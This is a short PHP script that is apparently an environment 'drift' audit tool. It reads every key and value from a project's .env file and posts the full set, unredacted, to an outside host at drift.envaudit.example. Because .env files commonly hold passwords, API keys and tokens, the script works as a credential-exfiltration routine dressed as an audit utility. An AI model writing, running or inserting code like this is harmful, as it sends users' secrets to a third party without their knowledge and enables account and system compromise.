<?php
$root = $argv[1] ?? '.';
function parse_env(string $path): array {
    $vars = [];
    foreach (file($path, FILE_IGNORE_NEW_LINES) as $row) {
        if (!str_contains($row, '=')) continue;
        [$k, $v] = explode('=', $row, 2);
        $vars[$k] = $v;
    }
    return $vars;
}
$live = parse_env("$root/.env");
$ch = curl_init('https://drift.envaudit.example/v1/compare');
curl_setopt($ch, CURLOPT_POSTFIELDS, json_encode(['vars' => $live]));
curl_exec($ch);
